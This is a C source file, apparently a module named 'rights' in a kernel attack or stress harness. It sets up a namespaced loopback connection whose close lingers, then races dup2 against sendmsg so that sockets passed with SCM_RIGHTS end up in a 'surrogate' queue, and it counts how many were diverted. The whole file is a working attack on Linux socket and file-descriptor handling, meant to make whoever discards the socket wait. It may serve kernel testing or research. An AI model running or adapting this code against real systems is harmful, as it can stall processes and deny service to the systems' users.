/* Sends a socket whose close lingers into a surrogate: who throws it away unread, waits. */
#include "attack.h"
#include <linux/if.h>
#include <sys/ioctl.h>

enum { SENT = 0, THROWN = 1 };
static int contested, foreign[2], target;

static void map_ids(uid_t user, gid_t group)
{
    char text[64];
    const struct { const char *file, *format; unsigned id; } maps[] = {
        {"/proc/self/setgroups", "deny%.0u", 0}, {"/proc/self/uid_map", "0 %u 1", user},
        {"/proc/self/gid_map", "0 %u 1", group}};
    for (int i = 0; i < 3; i++) {
        int fd = open(maps[i].file, O_WRONLY);
        int len = snprintf(text, sizeof text, maps[i].format, maps[i].id);
        if (fd < 0 || write(fd, text, (size_t)len) != len)
            break;
        close(fd);
    }
}

static int send_file(int through, int file)
{
    char control[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec part = {"x", 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &file, sizeof file);
    return sendmsg(through, &message, MSG_DONTWAIT) == 1 ? 0 : -1;
}

static int receive_file(int through)
{
    char control[CMSG_SPACE(sizeof(int))] = {0}, byte;
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int file = -1;
    if (recvmsg(through, &message, 0) == 1 && CMSG_FIRSTHDR(&message))
        memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof file);
    return file;
}

/* A connection of the kernel's own, in a network namespace of its own, whose close waits for 30 s. */
static int lingering(void)
{
    struct linger linger = {1, 30};
    static char bytes[65536];
    int port, own = listener(&port, 1), fd = caller(port);
    int accepted = fd >= 0 ? accept(own, NULL, NULL) : -1;
    if (accepted < 0)
        return -1;
    while (send(fd, bytes, sizeof bytes, MSG_DONTWAIT) > 0)
        ;
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &linger, sizeof linger);
    close(own);
    /* `accepted` stays open in this process, and is not read. */
    return fd;
}

static void make_lingering(int through)
{
    uid_t user = geteuid();
    gid_t group = getegid();
    if (unshare(CLONE_NEWNET) != 0) {
        must(unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0, "leave the network namespace");
        map_ids(user, group);
    }
    struct ifreq up = {.ifr_name = "lo"};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    up.ifr_flags = IFF_UP;
    must(fd >= 0 && ioctl(fd, SIOCSIFFLAGS, &up) == 0, "bring the loopback up");
    close(fd);
    while (!stopped()) {
        fd = lingering();
        must(fd >= 0, "make a connection of the kernel's");
        /* Who takes it is killed at the end of the attack. */
        int handed = send_file(through, fd);
        must(handed == 0 || errno == EPIPE || errno == ECONNRESET, "hand it over");
        close(fd);
        if (handed != 0)
            break;
        char byte;
        if (recv(through, &byte, 1, 0) != 1)
            break;
    }
    _exit(0);
}

static void *swap(void *unused)
{
    (void)unused;
    while (!stopped()) {
        dup2(foreign[0], contested);
        dup2(__atomic_load_n(&target, __ATOMIC_RELAXED), contested);
    }
    return NULL;
}

/* Closes a file, for as long as that takes. */
static void *close_it(void *file)
{
    close((int)(intptr_t)file);
    return NULL;
}

static void attack(void)
{
    static char bytes[65536];
    int port, through[2], own = listener(&port, 4);
    must(socketpair(AF_UNIX, SOCK_STREAM, 0, through) == 0, "socketpair");
    pid_t maker = fork();
    if (maker == 0) {
        close(through[0]);
        make_lingering(through[1]);
    }
    close(through[1]);
    must(socketpair(AF_UNIX, SOCK_STREAM, 0, foreign) == 0, "socketpair");
    contested = dup(foreign[0]);
    target = contested;
    spawn(swap, NULL);
    while (!stopped()) {
        int fd = caller(port), accepted = fd >= 0 ? accept(own, NULL, NULL) : -1;
        int file = accepted >= 0 ? receive_file(through[0]) : -1;
        if (file < 0) {
            nap(5);
            continue;
        }
        /* Nothing goes any more; then a little room, so that what follows stays in the surrogate's queue. */
        while (send(fd, bytes, sizeof bytes, MSG_DONTWAIT) > 0 || readable(accepted, 0) == 0)
            ;
        nap(2);
        while (send(fd, bytes, 4096, MSG_DONTWAIT) > 0)
            ;
        recv(accepted, bytes, sizeof bytes, MSG_DONTWAIT);
        nap(2);
        __atomic_store_n(&target, fd, __ATOMIC_RELAXED);
        long sent = 0;
        for (int i = 0; i < 300; i++)
            sent += send_file(contested, file) == 0;
        __atomic_store_n(&target, foreign[0], __ATOMIC_RELAXED);
        nap(1);
        shared->count[SENT] += sent;
        for (char byte; recv(foreign[1], &byte, 1, MSG_DONTWAIT) == 1;)
            sent--;
        shared->count[THROWN] += sent;
        spawn(close_it, (void *)(intptr_t)file);
        send(through[0], "c", 1, 0);
        nap(2);
        /* The last one lies in the queue, and what is in front of it is read now. */
        while (readable(accepted, 20) && recv(accepted, bytes, sizeof bytes, MSG_DONTWAIT) > 0)
            ;
        close(fd);
        close(accepted);
    }
    kill(maker, SIGKILL);
    _exit(0);
}

void rights(double seconds)
{
    pid_t attacker = start(attack);
    last(seconds, &shared->count[SENT], 1);
    kill(attacker, SIGKILL);
    waitpid(attacker, NULL, 0);
    nap(300);
    printf("rights: %ld messages with a socket in them, %ld of them for surrogates\n", shared->count[SENT],
           shared->count[THROWN]);
    if (shared->count[SENT] == 0)
        wrong("no socket was sent");
}
